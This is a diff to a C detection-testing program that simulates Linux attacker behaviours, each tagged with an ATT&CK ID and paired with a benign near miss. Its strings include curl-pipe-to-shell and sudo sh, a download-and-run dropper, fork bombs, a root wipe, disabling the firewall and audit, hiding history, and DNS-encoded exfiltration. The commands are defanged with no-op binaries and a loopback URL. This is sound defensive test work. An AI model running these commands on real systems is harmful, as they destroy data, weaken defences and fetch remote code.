@@ -52,6 +52,9 @@
 #define NOOP_ENV "SAKER_EVENTGEN_NOOP"
 #define SELFDEL_ENV "SAKER_EVENTGEN_UNLINK_SELF"
 #define READ_AFTER_ENV "SAKER_EVENTGEN_READ_AFTER" /* SECONDS:PATH */
+#define SLEEP_ENV "SAKER_EVENTGEN_SLEEP"           /* the copy sleeps a second and exits */
+#define ATTACH_ENV "SAKER_EVENTGEN_ATTACH"         /* PID: the copy ptrace-attaches to it, detaches */
+#define BPF_ENV "SAKER_EVENTGEN_BPF"               /* the copy calls bpf(BPF_PROG_LOAD), refused */
 
 enum where { ANY, HOST, CONTAINER };
 
@@ -685,6 +688,114 @@ static int n_curl_pipe_python(void) { return fake_downloader("/bin/sh", "curl", 
 static int a_bash_process_subst(void) { return fake_downloader("/bin/bash", "curl", "bash <(%s -fsSL http://127.0.0.1:9/x.sh)"); }
 static int n_bash_process_subst(void) { return fake_downloader("/bin/bash", "curl", "cat <(%s -fsSL http://127.0.0.1:9/x.sh)"); }
 
+/* sh -c "$(curl ...)": the downloader called by name, through PATH */
+static int a_curl_subst(void)
+{
+	return fake_downloader("/bin/sh", "curl", "PATH=" FAKEDIR ":$PATH%.0s; sh -c \"$(curl -fsSL http://127.0.0.1:9/x.sh)\"");
+}
+static int n_curl_subst(void)
+{
+	return fake_downloader("/bin/sh", "curl", "PATH=" FAKEDIR ":$PATH%.0s; curl -fsSL -o /dev/null http://127.0.0.1:9/x; sh -c true");
+}
+/* python3 -c 'exec(sys.stdin.read())' reads an empty program */
+static int a_curl_python_stdin(void)
+{
+	return fake_downloader("/bin/sh", "curl", "%s -fsSL http://127.0.0.1:9/x.py | python3 -c 'import sys;exec(sys.stdin.read())'");
+}
+static int n_curl_python_stdin(void)
+{
+	return fake_downloader("/bin/sh", "curl", "%s -fsSL http://127.0.0.1:9/x.py | python3 -c 'import sys;print(len(sys.argv))'");
+}
+/* curl ... | sudo sh: sh reads an empty script as root through sudo */
+static int a_curl_pipe_sudo(void) { return fake_downloader("/bin/sh", "curl", "%s -fsSL http://127.0.0.1:9/x.sh | sudo sh"); }
+static int n_curl_pipe_sudo(void) { return fake_downloader("/bin/sh", "curl", "%s -fsSL http://127.0.0.1:9/x.sh | sudo cat"); }
+
+/* An interactive shell's pipeline: the downloader leads the process group
+ * (it started first), a shell in the same group reads the script from a
+ * pipe. The leader is a copy of this program named curl that sleeps a
+ * second; the reader is started once the leader has been executed. */
+static int pipeline_into(const char *reader)
+{
+	char path[64];
+	char *lead[] = { path, (char *)"-fsSL", (char *)"http://127.0.0.1:9/x.sh", NULL };
+	char *rd[] = { (char *)reader, NULL };
+	int p[2];
+	pid_t leader, kid;
+
+	mkdir(FAKEDIR, 0700);
+	snprintf(path, sizeof(path), FAKEDIR "/curl");
+	unlink(path);
+	if (symlink(self_exe, path) || pipe2(p, O_CLOEXEC))
+		return -1;
+	leader = fork();
+	if (leader == 0) {
+		setpgid(0, 0);
+		execve(path, lead, env_plus(SLEEP_ENV "=1"));
+		_exit(127);
+	}
+	setpgid(leader, leader);
+	usleep(300000);
+	kid = fork();
+	if (kid == 0) {
+		setpgid(0, leader);
+		dup2(p[0], 0);
+		execv(reader, rd);
+		_exit(127);
+	}
+	close(p[0]);
+	close(p[1]);
+	quiet_wait(kid);
+	quiet_wait(leader);
+	unlink(path);
+	rmdir(FAKEDIR);
+	return 0;
+}
+static int a_pipeline_sh(void) { return pipeline_into("/bin/sh"); }
+static int n_pipeline_sh(void) { return pipeline_into("/bin/cat"); }
+
+/* sh -c 'curl -o /tmp/x URL; cp ... /tmp/x; /tmp/x' (the copy a no-op) */
+static int dropper(bool run)
+{
+	char cmd[PATH_MAX + 256];
+
+	tmpdir();
+	snprintf(cmd, sizeof(cmd), "%s -fsSL -o " TMPDIR "/upd http://127.0.0.1:9/upd; cp %s " TMPDIR "/upd; %s; rm -f " TMPDIR "/upd",
+		 "%s", self_exe, run ? TMPDIR "/upd" : "/bin/true");
+	return fake_downloader("/bin/sh", "curl", cmd);
+}
+static int a_downloaded_tmp_exec(void) { return dropper(true); }
+static int n_downloaded_tmp_exec(void) { return dropper(false); }
+
+/* a copy of this program under a hidden name in /tmp */
+static int a_hidden_tmp_exec(void)
+{
+	int rc;
+
+	tmpdir();
+	mkdir(TMPDIR "/.cache", 0700);
+	rc = copy_self_and_run(TMPDIR "/.cache/kworker", NULL);
+	rmdir(TMPDIR "/.cache");
+	return rc;
+}
+/* an ordinary program run with a hidden directory in /tmp as its working directory */
+static int n_hidden_tmp_exec(void)
+{
+	char *argv[] = { (char *)"/bin/true", NULL };
+	pid_t pid;
+
+	tmpdir();
+	mkdir(TMPDIR "/.cache", 0700);
+	pid = fork();
+	if (pid == 0) {
+		if (chdir(TMPDIR "/.cache"))
+			_exit(1);
+		execv(argv[0], argv);
+		_exit(127);
+	}
+	quiet_wait(pid);
+	return rmdir(TMPDIR "/.cache");
+}
+
 /* ------------------------------------------------------------- impact and miners */
 
 static int a_miner_cmdline(void) { return FAKE("xmrig", "-o", "pool.supportxmr.com:443", "--tls"); }
@@ -695,6 +806,10 @@ static int a_wipe(void) { return FAKE("rm", "-rf", "--no-preserve-root", "/"); }
 static int n_wipe(void) { return FAKE("rm", "-rf", TMPDIR "/build"); }
 static int a_fork_bomb(void) { return FAKE("bash", "-c", ":(){ :|:& };:"); }
 static int n_fork_bomb(void) { return FAKE("bash", "-c", "echo : | cat"); }
+static int a_fork_bomb_named(void) { return FAKE("bash", "-c", "bomb(){ bomb|bomb& };bomb"); }
+static int n_fork_bomb_named(void) { return FAKE("bash", "-c", "f(){ echo a|cat; };f"); }
+static int a_perl_fork_bomb(void) { return FAKE("perl", "-e", "fork while fork"); }
+static int n_perl_fork_bomb(void) { return FAKE("perl", "-e", "fork or exit; wait"); }
 
 /* a temporary file renamed to a new name, then removed */
 static int rename_temp(const char *to)
@@ -711,11 +826,58 @@ static int rename_temp(const char *to)
 
 static int a_ransom_rename(void) { return rename_temp(TMPDIR "/report.txt.locked"); }
 static int n_ransom_rename(void) { return rename_temp(TMPDIR "/report.txt.bak"); }
+/* openssl enc -out FILE.locked: the encrypted copy is created with the extension */
+static int a_ransom_create(void) { tmpdir(); return create_and_remove(TMPDIR "/report.txt.locked"); }
+static int n_ransom_create(void) { tmpdir(); return create_and_remove(TMPDIR "/report.txt.lock"); }
 
 /* ------------------------------------------------------------- defense evasion (commands) */
 
 static int a_disable_security(void) { return FAKE("systemctl", "stop", "auditd"); }
 static int n_disable_security(void) { return FAKE("systemctl", "status", "auditd"); }
+static int a_firewall_policy(void) { return FAKE("iptables", "-P", "INPUT", "ACCEPT"); }
+static int n_firewall_policy(void) { return FAKE("iptables", "-P", "INPUT", "DROP"); }
+static int a_chattr_immutable(void) { return FAKE("chattr", "+i", TMPDIR "/authorized_keys"); }
+static int n_chattr_immutable(void) { return FAKE("chattr", "+C", TMPDIR "/disk.img"); }
+static int a_systemd_run_timer(void) { return FAKE("systemd-run", "--on-active=1h", "/bin/true"); }
+static int n_systemd_run_timer(void) { return FAKE("systemd-run", "--scope", "/bin/true"); }
+static int a_dns_encoded(void)
+{
+	return FAKE("dig", "@127.0.0.1", "6b657920736563726574206f6620746865207573657220726f6f74.t.example.invalid", "TXT");
+}
+static int n_dns_encoded(void) { return FAKE("dig", "@127.0.0.1", "mail.example.invalid", "MX"); }
+static int a_chpasswd_stdin(void) { return fake_as(NULL, "chpasswd", (const char *const[]){ NULL }); }
+/* a password hash made from stdin: no account changes */
+static int n_chpasswd_stdin(void) { return fake_as(NULL, "mkpasswd", (const char *const[]){ NULL }); }
+/* a shell exports HISTFILE=/dev/null, then runs a command */
+static int a_histfile_devnull(void) { return sh("export HISTFILE=/dev/null; /bin/true; /bin/true"); }
+static int n_histfile_devnull(void) { return sh("export HISTFILE=" TMPDIR "/history; /bin/true; /bin/true"); }
+
+/* a copy of this program named auditd, sleeping, sent sig */
+static int signal_fake_auditd(int sig)
+{
+	char path[64];
+	char *argv[] = { path, NULL };
+	pid_t pid;
+
+	mkdir(FAKEDIR, 0700);
+	snprintf(path, sizeof(path), FAKEDIR "/auditd");
+	unlink(path);
+	if (symlink(self_exe, path))
+		return -1;
+	pid = fork();
+	if (pid == 0) {
+		execve(path, argv, env_plus(SLEEP_ENV "=1"));
+		_exit(127);
+	}
+	usleep(300000);
+	kill(pid, sig);
+	quiet_wait(pid);
+	unlink(path);
+	rmdir(FAKEDIR);
+	return 0;
+}
+static int a_kill_security_tool(void) { return signal_fake_auditd(SIGKILL); }
+static int n_kill_security_tool(void) { return signal_fake_auditd(SIGHUP); }
 
 /* touch [-d DATE] on a temporary file, then remove it */
 static int touch_temp(const char *date)
@@ -971,6 +1133,11 @@ static int n_systemd_unit(void) { return read_path("/etc/systemd/system.conf") &
 static int a_systemd_timer(void) { return with_file(TMPDIR "/.config/systemd/user/saker-eventgen.timer", false); }
 static int n_systemd_timer(void) { return with_file(TMPDIR "/.config/saker-eventgen.timer", false); }
 static int a_shell_config(void) { tmpdir(); return create_and_remove(TMPDIR "/.bashrc"); }
+static int a_xdg_autostart(void) { tmpdir(); return with_file(TMPDIR "/home/.config/autostart/saker-eventgen.desktop", false); }
+static int n_xdg_autostart(void) { tmpdir(); return with_file(TMPDIR "/home/.config/saker-eventgen/saker-eventgen.desktop", false); }
+/* sed -i: a temporary file renamed over the start-up file */
+static int a_rename_over_bashrc(void) { return rename_temp(TMPDIR "/.bashrc"); }
+static int n_rename_over_bashrc(void) { return rename_temp(TMPDIR "/.bashrc.bak"); }
 static int n_shell_config(void) { tmpdir(); return create_and_remove(TMPDIR "/.bashrc.orig"); }
 static int a_profile_d(void) { return with_file("/etc/profile.d/saker-eventgen.disabled", false); }
 static int n_profile_d(void) { return read_path("/etc/profile"); }
@@ -1130,6 +1297,26 @@ static int n_ptrace(void)
 	return rc;
 }
 
+/* a copy named strace attaches to a sleeping child: with -p PID (attaching
+ * to a running process), or as `strace -o /dev/null CMD` would trace its own */
+static int debugger_attach(bool by_pid)
+{
+	pid_t kid = sleeper();
+	char var[64], pid[16];
+	int rc;
+
+	snprintf(var, sizeof(var), ATTACH_ENV "=%d", (int)kid);
+	snprintf(pid, sizeof(pid), "%d", (int)kid);
+	if (by_pid)
+		rc = fake_env(NULL, "strace", var, (const char *const[]){ "-p", pid, "-o", "/dev/null", NULL });
+	else
+		rc = fake_env(NULL, "strace", var, (const char *const[]){ "-o", "/dev/null", "/bin/true", NULL });
+	reap(kid);
+	return rc;
+}
+static int a_debugger_attach(void) { return debugger_attach(true); }
+static int n_debugger_attach(void) { return debugger_attach(false); }
+
 static int a_ptrace_traceme(void)
 {
 	pid_t kid = fork();
@@ -1171,6 +1358,10 @@ static int n_bpf_load(void)
 	syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr));
 	return 0;
 }
+
+/* a copy named bpftool calls bpf(BPF_PROG_LOAD) (refused): prog load, or feature probe */
+static int a_bpftool_load(void) { return fake_env(NULL, "bpftool", BPF_ENV "=1", (const char *const[]){ "prog", "load", "x.o", "/sys/fs/bpf/x", NULL }); }
+static int n_bpftool_load(void) { return fake_env(NULL, "bpftool", BPF_ENV "=1", (const char *const[]){ "feature", "probe", NULL }); }
 
 static int a_release_agent(void) { tmpdir(); return create_and_remove(TMPDIR "/release_agent"); }
 static int n_release_agent(void) { tmpdir(); return create_and_remove(TMPDIR "/release_agent.txt"); }
@@ -1530,6 +1721,12 @@ static const struct action actions[] = {
 	{ "ncat_sh_exec", "T1059.004", ANY, "Netcat remote code execution", a_ncat_sh_exec, n_ncat_sh_exec, "a no-op named ncat with --sh-exec /bin/sh" },
 	{ "wget_pipe_bash", "T1059.004", ANY, "Run downloaded script through interpreter", a_wget_pipe_bash, n_wget_pipe_bash, "sh -c 'wget -qO- URL | bash' with a no-op wget" },
 	{ "curl_pipe_python", "T1059.006", ANY, "Run downloaded script through interpreter", a_curl_pipe_python, n_curl_pipe_python, "sh -c 'curl URL | python3 -' with a no-op curl (python3 reads an empty program)" },
+	{ "curl_subst", "T1059.004", ANY, "Run downloaded script through interpreter", a_curl_subst, n_curl_subst, "sh -c \"$(curl -fsSL URL)\" with a no-op curl" },
+	{ "curl_python_stdin", "T1059.006", ANY, "Run downloaded script through interpreter", a_curl_python_stdin, n_curl_python_stdin, "curl URL | python3 -c 'import sys;exec(sys.stdin.read())' with a no-op curl" },
+	{ "curl_pipe_sudo", "T1059.004", HOST, "Run downloaded script through interpreter", a_curl_pipe_sudo, n_curl_pipe_sudo, "sh -c 'curl URL | sudo sh' with a no-op curl (needs sudo)" },
+	{ "pipeline_sh", "T1059.004", ANY, "Run downloaded script through interpreter", a_pipeline_sh, n_pipeline_sh, "an interactive shell's 'curl URL | sh': a copy named curl leads the process group, /bin/sh in it reads an empty pipe" },
+	{ "downloaded_tmp_exec", "T1105", ANY, "Run binary downloaded to a temporary directory", a_downloaded_tmp_exec, n_downloaded_tmp_exec, "sh -c 'curl -o /tmp/saker-eventgen/upd URL; ...; /tmp/saker-eventgen/upd' (a no-op copy of itself)" },
+	{ "hidden_tmp_exec", "T1564.001", ANY, "Execution of hidden file in temporary directory", a_hidden_tmp_exec, n_hidden_tmp_exec, "copies itself to /tmp/saker-eventgen/.cache/kworker and runs it as a no-op" },
 	{ "bash_process_subst", "T1059.004", ANY, "Run downloaded script through interpreter", a_bash_process_subst, n_bash_process_subst, "bash -c 'bash <(curl URL)' with a no-op curl" },
 	{ "preload_env", "T1574.006", ANY, "Library preloaded from a writable directory", a_preload_env, n_preload_env, "runs /bin/true with LD_PRELOAD=/tmp/saker-eventgen/libhook.so (absent: the loader skips it)" },
 	{ "memfd_exec", "T1620", ANY, "Fileless execution via memfd_create", a_memfd_exec, n_plain_exec, "copies itself into a memfd and runs it (a no-op) with fexecve" },
@@ -1548,9 +1745,16 @@ static const struct action actions[] = {
 	{ "shred", "T1485", ANY, "Destructive wipe command", a_shred, n_shred, "a no-op named shred with -uz FILE" },
 	{ "wipefs", "T1561.002", ANY, "Destructive wipe command", a_wipefs, n_wipefs, "a no-op named wipefs with -a /dev/sdb" },
 	{ "fork_bomb", "T1499", ANY, "Fork bomb", a_fork_bomb, n_fork_bomb, "a no-op named bash with -c ':(){ :|:& };:'" },
+	{ "fork_bomb_named", "T1499", ANY, "Fork bomb", a_fork_bomb_named, n_fork_bomb_named, "a no-op named bash with -c 'bomb(){ bomb|bomb& };bomb'" },
+	{ "perl_fork_bomb", "T1499", ANY, "Fork bomb", a_perl_fork_bomb, n_perl_fork_bomb, "a no-op named perl with -e 'fork while fork'" },
+	{ "ransom_create", "T1486", ANY, "Files renamed with ransomware extension", a_ransom_create, n_ransom_create, "creates and removes a temporary report.txt.locked (openssl enc -out's shape)" },
 	{ "ransom_rename", "T1486", ANY, "Files renamed with ransomware extension", a_ransom_rename, n_ransom_rename, "renames a temporary file to .locked, removes it" },
 	/* defense evasion */
 	{ "disable_security", "T1562.001", ANY, "Disable security tools", a_disable_security, n_disable_security, "a no-op named systemctl with stop auditd" },
+	{ "firewall_policy", "T1562.004", ANY, "Disable security tools", a_firewall_policy, n_firewall_policy, "a no-op named iptables with -P INPUT ACCEPT" },
+	{ "kill_security_tool", "T1562.001", ANY, "Kill security tool process", a_kill_security_tool, n_kill_security_tool, "SIGKILL to a sleeping copy of itself named auditd" },
+	{ "chattr_immutable", "T1222.002", ANY, "Set immutable file attribute", a_chattr_immutable, n_chattr_immutable, "a no-op named chattr with +i FILE" },
+	{ "histfile_devnull", "T1070.003", ANY, "Shell history disabled by environment", a_histfile_devnull, n_histfile_devnull, "sh -c 'export HISTFILE=/dev/null; /bin/true'" },
 	{ "auditctl_off", "T1562.012", ANY, "Disable security tools", a_auditctl_off, n_auditctl_off, "a no-op named auditctl with -e 0" },
 	{ "setenforce_off", "T1562.001", ANY, "Disable security tools", a_setenforce, n_setenforce, "a no-op named setenforce with 0" },
 	{ "firewall_flush", "T1562.004", ANY, "Disable security tools", a_firewall_flush, n_firewall_flush, "a no-op named iptables with -t filter -F" },
@@ -1568,6 +1772,7 @@ static const struct action actions[] = {
 	{ "history_devnull", "T1070.003", ANY, "Delete or rename shell history", a_history_devnull, n_history, "links a temporary .zsh_history to /dev/null" },
 	{ "self_delete", "T1070.004", ANY, "Delete own executable", a_self_delete, n_self_delete, "a copy of itself in /tmp removes its own file" },
 	{ "package_db", "T1070", ANY, "Write to package database", a_pkg_db, n_pkg_db, "creates and removes a file in /var/lib/dpkg" },
+	{ "bpftool_load", "T1014", ANY, "BPF program loaded by unexpected program", a_bpftool_load, n_bpftool_load, "a copy named bpftool with 'prog load' calls bpf(BPF_PROG_LOAD) (refused)" },
 	{ "bpf_load", "T1014", ANY, "BPF program loaded by unexpected program", a_bpf_load, n_bpf_load, "calls bpf(BPF_PROG_LOAD) with an empty program (refused)" },
 	{ "ptrace_traceme", "T1622", ANY, "PTRACE anti-debug attempt", a_ptrace_traceme, n_ptrace, "a child calls ptrace(PTRACE_TRACEME)" },
 	/* persistence */
@@ -1576,11 +1781,14 @@ static const struct action actions[] = {
 	{ "rc_local", "T1037.004", ANY, "Modify init scripts", a_rc_local, n_rc_local, "opens /etc/rc.local for appending (created and removed if absent), writes nothing" },
 	{ "shadow_direct", "T1098", ANY, "Modify user database directly", a_shadow_direct, n_shadow_direct, "opens /etc/shadow for appending, writes nothing" },
 	{ "sudoers_main", "T1548.003", ANY, "Modify sudoers configuration", a_sudoers_main, n_sudoers_dropin, "opens /etc/sudoers for appending, writes nothing" },
+	{ "systemd_run_timer", "T1053.006", ANY, "Schedule systemd timer with systemd-run", a_systemd_run_timer, n_systemd_run_timer, "a no-op named systemd-run with --on-active=1h" },
 	{ "at_job", "T1053.002", ANY, "Schedule at job", a_at_job, n_at_job, "a no-op named at with 'now + 1 minute'" },
 	{ "at_spool", "T1053.002", ANY, "Schedule at job file", a_at_spool, n_at_spool, "writes and removes a file in /var/spool/cron/atjobs" },
 	{ "systemd_unit", "T1543.002", ANY, "Create or modify systemd unit", a_systemd_unit, n_systemd_unit, "writes and removes /etc/systemd/system/saker-eventgen.tmp" },
 	{ "systemd_timer", "T1053.006", ANY, "Create or modify systemd unit", a_systemd_timer, n_systemd_timer, "writes and removes a user timer under a temporary ~/.config/systemd/user" },
 	{ "shell_config", "T1546.004", ANY, "Modify shell configuration file", a_shell_config, n_shell_config, "writes and removes a temporary .bashrc" },
+	{ "xdg_autostart", "T1547.013", ANY, "Modify shell configuration file", a_xdg_autostart, n_xdg_autostart, "writes and removes a temporary ~/.config/autostart/*.desktop" },
+	{ "rename_over_bashrc", "T1546.004", ANY, "Persistence file replaced by rename", a_rename_over_bashrc, n_rename_over_bashrc, "renames a temporary file over a temporary .bashrc (sed -i's shape), removes it" },
 	{ "profile_d", "T1546.004", ANY, "Modify shell configuration file", a_profile_d, n_profile_d, "writes and removes a file in /etc/profile.d (not *.sh: never sourced)" },
 	{ "authorized_keys", "T1098.004", ANY, "Modify ssh authorized keys", a_authorized_keys, n_authorized_keys, "writes and removes a temporary .ssh/authorized_keys" },
 	{ "sudoers_dropin", "T1548.003", ANY, "Modify sudoers configuration", a_sudoers_dropin, n_sudoers_dropin, "writes and removes /etc/sudoers.d/saker-eventgen.test (sudo skips names with a dot)" },
@@ -1589,6 +1797,7 @@ static const struct action actions[] = {
 	{ "init_script", "T1037.004", ANY, "Modify init scripts", a_init_script, n_init_script, "writes and removes /etc/init.d/saker-eventgen" },
 	{ "udev_rule", "T1546", ANY, "Create udev rule", a_udev_rule, n_udev_rule, "writes and removes /etc/udev/rules.d/saker-eventgen.tmp (not *.rules: never loaded)" },
 	{ "new_user", "T1136.001", ANY, "Create user account", a_new_user, n_new_user, "a no-op named useradd with -m saker-eventgen-user" },
+	{ "chpasswd_stdin", "T1098", ANY, "Create user account", a_chpasswd_stdin, n_chpasswd_stdin, "a no-op named chpasswd with no arguments (it reads user:password lines); near miss: mkpasswd" },
 	{ "user_mgmt", "T1136", ANY, "User management binary executed", a_user_mgmt, n_user_mgmt, "a no-op named passwd with -S root" },
 	{ "passwd_direct", "T1136.001", ANY, "Modify user database directly", a_passwd_direct, n_read_shadow, "opens /etc/passwd for appending, writes nothing" },
 	{ "kernel_module", "T1547.006", ANY, "Linux kernel module injection", a_kernel_module, n_kernel_module, "calls init_module with a non-module (refused)" },
@@ -1611,6 +1820,7 @@ static const struct action actions[] = {
 	{ "userns_clone", "T1068", HOST, "Unexpected user namespace created", a_userns_clone, n_userns_clone, "a child calls clone(CLONE_NEWUSER); its child exits at once" },
 	{ "userns_clone3", "T1068", HOST, "Unexpected user namespace created", a_userns_clone3, n_userns_clone3, "a child calls clone3(CLONE_NEWUSER|CLONE_NEWNS); its child exits at once" },
 	{ "ptrace_attach", "T1055.008", ANY, "PTRACE attached to process", a_ptrace_attach, n_ptrace, "attaches to its own sleeping child with ptrace" },
+	{ "debugger_attach", "T1055.008", ANY, "PTRACE attached to process", a_debugger_attach, n_debugger_attach, "a copy named strace with -p PID attaches to its sleeping sibling" },
 	{ "proc_mem_write", "T1055.009", ANY, "Write to process memory", a_proc_mem_write, n_proc_mem, "opens its child's /proc/PID/mem for writing, writes nothing" },
 	{ "proc_mem_read", "T1003.007", ANY, "Read process memory", a_proc_mem_read, n_proc_mem, "opens its child's /proc/PID/mem for reading; process_vm_readv on it" },
 	{ "release_agent", "T1611", ANY, "Detect release_agent file container escapes", a_release_agent, n_release_agent, "writes a temporary file named release_agent" },
@@ -1638,6 +1848,7 @@ static const struct action actions[] = {
 	{ "packet_socket", "T1040", ANY, "Packet socket created", a_packet_socket, n_packet_socket_as_dhclient, "opens and closes an AF_PACKET socket" },
 	{ "raw_socket", "T1095", ANY, "Raw IP socket created", a_raw_socket, n_raw_socket, "opens and closes a raw ICMP socket" },
 	{ "dns_tunnel", "T1071.004", ANY, "DNS tunnelling tool launched", a_dns_tunnel, n_dns_tunnel, "a no-op named iodine" },
+	{ "dns_encoded", "T1071.004", ANY, "DNS tunnelling tool launched", a_dns_encoded, n_dns_encoded, "a no-op named dig asked for a name with a 54-character hex label" },
 	{ NULL, NULL, ANY, NULL, NULL, NULL, NULL },
 };
 
@@ -1674,6 +1885,25 @@ int main(int argc, char **argv)
 {
 	if (getenv(NOOP_ENV))
 		return 0;
+	if (getenv(SLEEP_ENV)) {
+		sleep(1);
+		return 0;
+	}
+	if (getenv(ATTACH_ENV)) {
+		pid_t pid = (pid_t)atoi(getenv(ATTACH_ENV));
+
+		if (pid <= 0 || ptrace(PTRACE_ATTACH, pid, 0, 0))
+			return 1;
+		waitpid(pid, NULL, __WALL);
+		return ptrace(PTRACE_DETACH, pid, 0, 0) ? 1 : 0;
+	}
+	if (getenv(BPF_ENV)) {
+		union bpf_attr attr;
+
+		memset(&attr, 0, sizeof(attr)); /* no instructions: the kernel refuses */
+		syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr));
+		return 0;
+	}
 	if (getenv(READ_AFTER_ENV)) { /* SECONDS:PATH */
 		char *colon = strchr(getenv(READ_AFTER_ENV), ':');
 
